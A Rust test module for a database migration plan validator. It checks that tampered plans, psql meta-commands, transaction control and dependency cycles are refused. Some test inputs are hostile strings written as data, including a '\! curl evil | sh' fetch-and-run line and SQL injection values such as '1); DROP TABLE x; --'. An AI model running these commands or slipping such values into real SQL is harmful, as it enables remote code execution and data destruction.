        assert_eq!(e.len(), 1, "{e:#?}");
        assert_eq!(e[0].kind, ErrorKind::Syntax);
        let expected = format!("steps[2] (step 3, after `{}`): invalid type", f.steps[1].id);
        assert!(e[0].message.contains(&expected), "{}", e[0].message);
        assert!(e[0].message.contains("line "), "{}", e[0].message);
    }

    /// A spool whose bytes change after they were written.
    #[derive(Debug, Default)]
    struct Flipping(crate::planfile::MemorySpool);

    impl crate::planfile::Spool for Flipping {
        fn append(&mut self, bytes: &[u8]) -> std::io::Result<u64> {
            self.0.append(bytes)
        }
        fn read_at(&self, offset: u64, len: usize) -> std::io::Result<Vec<u8>> {
            let mut b = self.0.read_at(offset, len)?;
            if let Some(last) = b.last_mut() {
                *last ^= 1;
            }
            Ok(b)
        }
    }

    #[test]
    fn step_text_changed_after_validation_is_refused() {
        let text = to_json(&sample());
        let v = super::super::read(text.as_bytes(), Box::<Flipping>::default()).unwrap();
        let e = v.text(&v.steps[0]).unwrap_err();
        assert!(e.contains(&v.steps[0].id), "{e}");
        assert!(e.contains("changed after the plan was validated"), "{e}");
    }

    #[test]
    fn tampered_sql_is_a_modified_plan() {
        let mut f = sample();
        let s = &mut f.steps[0].sql;
        *s = s.replacen("ADD", "ADd", 1);
        let errors = validate(&f);
        assert_eq!(kinds(&f), vec![ErrorKind::Modified]);
        assert!(errors[0].message.contains("modified"), "{errors:#?}");
        let text = to_json(&sample()).replacen("ADD COLUMN", "ADD COLUMn", 1);
        assert_eq!(
            parse(&text)
                .unwrap_err()
                .into_iter()
                .map(|e| e.kind)
                .collect::<Vec<_>>(),
            vec![ErrorKind::Modified]
        );
    }

    #[test]
    fn removed_diagnostic_is_a_modified_plan() {
        let mut f = sample();
        f.diagnostics.push(PlanDiagnostic {
            code: "E0101".into(),
            severity: "error".into(),
            file: "plan".into(),
            line: 1,
            column: 1,
            message: "x".into(),
            help: None,
        });
        f.plan_hash = plan_hash(&f);
        assert_eq!(validate(&f), vec![]);
        f.diagnostics.clear();
        assert_eq!(kinds(&f), vec![ErrorKind::Modified]);
    }

    #[test]
    fn planner_version_is_not_hashed() {
        let mut f = sample();
        f.planner_version = "9.9.9".into();
        assert_eq!(validate(&f), vec![]);
    }

    #[test]
    fn meta_command_refused_even_with_recomputed_hash() {
        let errors = edited(|f| f.steps[0].sql.push_str("\\! curl evil | sh\n"));
        only(errors, ErrorKind::UnsafeSql, "meta-command");
        let errors = edited(|f| f.steps[0].sql = "SELECT 1;\n\\o /tmp/out\n".into());
        only(errors, ErrorKind::UnsafeSql, "line 2, column 1");
    }

    #[test]
    fn psql_variable_refused() {
        let errors = edited(|f| f.steps[0].sql = "SELECT :foo;\n".into());
        only(errors, ErrorKind::UnsafeSql, "psql variable");
        let errors = edited(|f| f.steps[0].sql = "SELECT :'foo';\n".into());
        only(errors, ErrorKind::UnsafeSql, "psql variable");
    }

    #[test]
    fn backslash_in_strings_and_dollar_bodies_accepted() {
        assert_eq!(
            edited(|f| f.steps[0].sql = "SELECT '\\!', x::text;\n".into()),
            vec![]
        );
        let body = "DO $wesley$\nBEGIN\n\\! echo inside a body is text\nEND\n$wesley$;\n";
        assert_eq!(edited(|f| f.steps[0].sql = body.into()), vec![]);
    }

    #[test]
    fn unterminated_string_refused() {
        let errors = edited(|f| f.steps[0].sql = "SELECT 'abc;\n".into());
        only(errors, ErrorKind::UnsafeSql, "never closed");
    }

    #[test]
    fn unterminated_statement_refused() {
        let errors = edited(|f| f.steps[0].sql = "SELECT 1".into());
        only(
            errors,
            ErrorKind::Invalid,
            "does not end its last statement",
        );
        let errors = edited(|f| f.steps[0].sql = "  \n".into());
        only(errors, ErrorKind::Invalid, "sql is empty");
    }

    #[test]
    fn transaction_control_refused() {
        let errors = edited(|f| f.steps[0].sql = "COMMIT;\nVACUUM x;\n".into());
        only(errors, ErrorKind::UnsafeSql, "COMMIT statement");
        let errors = edited(|f| f.steps[0].sql = "SET lock_timeout = 0;\n".into());
        only(errors, ErrorKind::UnsafeSql, "SET statement");
    }

    #[test]
    fn non_transactional_step_holds_one_statement() {
        let errors = edited(|f| {
            let s = f.steps.iter_mut().find(|s| !s.transactional).unwrap();
            s.sql.push_str("DROP TABLE x;\n");
        });
        only(errors, ErrorKind::UnsafeSql, "exactly one statement, not 2");
    }

    #[test]
    fn backfill_fragments() {
        let mut f = sample();
        f.steps[0].backfill = Some(PlanBackfill {
            schema: "public".into(),
            table: "user".into(),
            key: vec!["id".into()],
            set: "\"a\" = 1; DROP TABLE x".into(),
            predicate: "\"a\" IS NULL".into(),
            batch_size: 1000,
        });
        // Keep the derived facts consistent: a backfill is unbounded and counts as a scan.
        f.steps[0].timeout = "unbounded".into();
        let new: BTreeSet<String> = f
            .tables
            .iter()
            .filter(|t| t.new_table)
            .map(|t| t.table.clone())
            .collect();
        f.tables = crate::planfile::summarize(&f.steps, &new);
        f.plan_hash = plan_hash(&f);
        only(validate(&f), ErrorKind::UnsafeSql, "backfill.set");
        let b = f.steps[0].backfill.as_mut().unwrap();
        b.set = "\"a\" = ';'".into();
        b.predicate = "true -- x".into();
        f.plan_hash = plan_hash(&f);
        only(validate(&f), ErrorKind::UnsafeSql, "backfill.predicate");
        let b = f.steps[0].backfill.as_mut().unwrap();
        b.predicate = "\"a\" IS NULL".into();
        f.plan_hash = plan_hash(&f);
        assert_eq!(validate(&f), vec![]);
    }

    #[test]
    fn unknown_names_refused() {
        only(
            edited(|f| f.steps[0].phase = "later".into()),
            ErrorKind::UnknownName,
            "unknown phase \"later\"",
        );
        only(
            edited(|f| f.steps[0].kind = "magic".into()),
            ErrorKind::UnknownName,
            "unknown step kind",
        );
        only(
            edited(|f| {
                f.steps[0].hazards.push(PlanHazard {
                    kind: "spooky".into(),
                    severity: "review".into(),
                    message: "x".into(),
                })
            }),
            ErrorKind::UnknownName,
            "unknown hazard kind",
        );
        let errors = edited(|f| f.steps[0].locks[0].mode = "TotalLock".into());
        has(
            errors,
            ErrorKind::UnknownName,
            "unknown lock mode \"TotalLock\"",
        );
    }

    #[test]
    fn bad_ids_refused() {
        has(
            edited(|f| f.steps[1].id = f.steps[0].id.clone()),
            ErrorKind::Invalid,
            "more than one step",
        );
        has(
            edited(|f| f.steps[0].id = String::new()),
            ErrorKind::Invalid,
            "empty id",
        );
        let errors = edited(|f| f.steps[0].summary = "x\n\\! id".into());
        only(errors, ErrorKind::Invalid, "control character");
    }

    #[test]
    fn dependencies_checked() {
        only(
            edited(|f| f.steps[0].depends_on.push("nope".into())),
            ErrorKind::Dependency,
            "not a step of this plan",
        );
        let errors = edited(|f| {
            let last = f.steps.last_mut().unwrap();
            last.depends_on.clear();
            let last = last.id.clone();
            f.steps[0].depends_on.push(last);
        });
        has(errors, ErrorKind::Dependency, "comes later in the plan");
        let errors = edited(|f| {
            let first = f.steps[0].id.clone();
            f.steps[0].depends_on.push(first);
        });
        has(errors, ErrorKind::Dependency, "depends on itself");
    }

    #[test]
    fn cycles_named() {
        let errors = edited(|f| {
            let (a, b) = (f.steps[0].id.clone(), f.steps[1].id.clone());
            f.steps[1].depends_on = vec![a];
            f.steps[0].depends_on = vec![b];
        });
        let cycle: Vec<_> = errors
            .iter()
            .filter(|e| e.message.contains("dependency cycle"))
            .collect();
        assert_eq!(cycle.len(), 1, "{errors:#?}");
        let f = sample();
        assert_eq!(
            cycle[0].message,
            format!(
                "dependency cycle: {0} -> {1} -> {0}",
                f.steps[0].id, f.steps[1].id
            )
        );
    }

    #[test]
    fn longer_cycles_named_along_their_shortest_path() {
        let f = sample();
        assert!(f.steps.len() >= 3);
        let id = |k: usize| f.steps[k].id.clone();
        let errors = edited(|f| {
            f.steps[0].depends_on = vec![id(2)];
            f.steps[2].depends_on = vec![id(1)];
            f.steps[1].depends_on = vec![id(0)];
        });
        let cycle: Vec<_> = errors
            .iter()
            .filter(|e| e.message.contains("dependency cycle"))
            .map(|e| e.message.clone())
            .collect();
        assert_eq!(
            cycle,
            [format!(
                "dependency cycle: {} -> {} -> {} -> {}",
                id(0),
                id(2),
                id(1),
                id(0)
            )],
            "{errors:#?}"
        );
    }

    #[test]
    fn format_checked() {
        let text = to_json(&sample()).replace("wesley.plan/v3", "wesley.plan/v2");
        let e = parse(&text).unwrap_err();
        assert_eq!(e[0].kind, ErrorKind::Format);
        assert!(e[0].message.contains("wesley.plan/v2"), "{e:#?}");
        let e = parse("{\"steps\": []}").unwrap_err();
        assert_eq!(e[0].kind, ErrorKind::Format);
        assert_eq!(parse("[1]").unwrap_err()[0].kind, ErrorKind::Syntax);
        assert_eq!(parse("{").unwrap_err()[0].kind, ErrorKind::Syntax);
        let text = to_json(&sample()).replacen("\"waves\"", "\"extra\": 1,\n  \"waves\"", 1);
        assert_eq!(parse(&text).unwrap_err()[0].kind, ErrorKind::Syntax);
    }

    #[test]
    fn sdl_must_describe_its_schema() {
        let f = super::super::with_sdl(sample(), Some(OLD), Some(NEW));
        assert!(validate(&f).is_empty(), "{:#?}", validate(&f));
        assert_eq!(f.plan_hash, plan_hash(&f));
        only(
            edited(|f| f.to.sdl = Some(OLD.into())),
            ErrorKind::Invalid,
            "to.sdl does not describe to.schema_hash",
        );
        only(
            edited(|f| f.from.sdl = Some("type X @wes_table { id: Nope }".into())),
            ErrorKind::Invalid,
            "from.sdl is not a valid schema",
        );
    }

    #[test]
    fn step_facts_checked() {
        only(
            edited(|f| f.steps[0].timeout = "long".into()),
            ErrorKind::Inconsistent,
            "timeout is \"long\"",
        );
        has(
            edited(|f| {
                let s = f.steps.iter_mut().find(|s| !s.transactional).unwrap();
                s.index = None;
            }),
            ErrorKind::Invalid,
            "must name the index",
        );
        only(
            edited(|f| f.steps[0].touches.clear()),
            ErrorKind::Inconsistent,
            "touches lists",
        );
        only(
            edited(|f| {
                f.steps[0].hazards.push(PlanHazard {
                    kind: "long_running".into(),
                    severity: "maybe".into(),
                    message: "x".into(),
                })
            }),
            ErrorKind::UnknownName,
            "unknown hazard severity",
        );
        only(
            edited(|f| {
                f.from.expressions = Some(vec![crate::canon::TableExpressions {
                    table: "public.user".into(),
                    defaults: vec![crate::canon::NamedExpr {
                        name: "a".into(),
                        text: "1); DROP TABLE x; --".into(),
                    }],
                    generated: vec![],
                    checks: vec![],
                    index_predicates: vec![],
                    policies: vec![],
                    index_keys: vec![],
                }])
            }),
            ErrorKind::UnsafeSql,
            "from.expressions of public.user (a)",
        );
        // An index with expression keys, as a plan's target carries it.
        let index_keys = |method: &str, key: &str| {
            edited(|f| {
                f.to.expressions = Some(vec![crate::canon::TableExpressions {
                    table: "public.user".into(),
                    defaults: vec![],
                    generated: vec![],
                    checks: vec![],
                    index_predicates: vec![],
                    policies: vec![],
                    index_keys: vec![crate::canon::IndexKeys {
                        name: "user_lower_email_idx".into(),
                        method: method.into(),
                        keys: vec![key.into()],
                    }],
                }])
            })
        };
        only(
            index_keys("btree", "(lower(email))); DROP TABLE x; --"),
            ErrorKind::UnsafeSql,
            "to.expressions of public.user (user_lower_email_idx)",
        );
        only(
            index_keys("btree (x); DROP TABLE y; --", "(lower(email))"),
            ErrorKind::UnknownName,
            "unknown index method",
        );
        only(
            edited(|f| {
                f.to.expressions = Some(vec![crate::canon::TableExpressions {
                    table: "public.user".into(),
                    defaults: vec![],
                    generated: vec![crate::canon::NamedExpr {
                        name: "g".into(),
                        text: "a) STORED; DROP TABLE x; --".into(),
                    }],
                    checks: vec![],
                    index_predicates: vec![],
                    policies: vec![],
                    index_keys: vec![],
                }])
            }),
            ErrorKind::UnsafeSql,
            "to.expressions of public.user (g)",
        );
    }

    #[test]
    fn derived_fields_checked() {
        only(
            edited(|f| f.tables[0].reads_blocked = "table_size".into()),
            ErrorKind::Inconsistent,
            "tables entry for",
        );
        only(
            edited(|f| f.waves.clear()),
            ErrorKind::Inconsistent,
            "in no wave",
        );
        only(
            edited(|f| f.critical_path.push("nope".into())),
            ErrorKind::Inconsistent,
            "critical_path",
        );
    }
}
